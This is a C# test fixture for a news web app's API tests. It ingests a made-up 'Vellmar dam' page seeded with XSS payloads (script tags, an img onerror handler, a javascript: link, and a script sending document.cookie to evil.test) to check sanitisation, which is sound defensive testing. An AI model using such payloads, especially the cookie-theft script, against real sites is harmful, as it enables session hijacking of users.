namespace Storyline.Web.Tests.Api;

/// <summary>
/// One store shared by the read-only API tests: the demo corpus (samples/, our own fictional
/// events) and a hostile page written here (script tags, event handlers, javascript: links),
/// ingested through the real pipeline.
/// </summary>
public sealed class DemoStoreFixture : IAsyncLifetime, IDisposable
{
    public const string HostileTitle = "Dam alarm in Vellmar <script>alert('title')</script>";

    public TestStore Store { get; } = new();

    public ApiHost Host { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        var hostile = Store.WritePage(
            "hostile.html",
            "Vellmar Echo",
            "Dam alarm in Vellmar &lt;script&gt;alert('title')&lt;/script&gt;",
            "2026-06-01T08:00:00+00:00",
            "Engineers at the Vellmar reservoir said 14 families had been moved from the valley on Monday after sensors showed "
            + "water seeping through the old dam wall &lt;img src=x onerror=alert(1)&gt; near the spillway.",
            "The district council said the alarm &lt;script&gt;document.location='https://evil.test/'+document.cookie&lt;/script&gt; "
            + "would stay on until divers had checked the wall, and posted [the map](javascript:alert(2)) of the flood zone.",
            "Residents of Vellmar said the sirens had sounded twice overnight and that the ferry across the reservoir had stopped running.");
        await Store.IngestAsync(TestStore.Samples(), hostile);
        Host = new ApiHost(Store.DatabasePath);
    }

    public Task DisposeAsync() => Task.CompletedTask;

    public void Dispose()
    {
        Host?.Dispose();
        Store.Dispose();
    }
}

[CollectionDefinition(Name)]
public sealed class DemoStoreCollection : ICollectionFixture<DemoStoreFixture>
{
    public const string Name = "demo store";
}
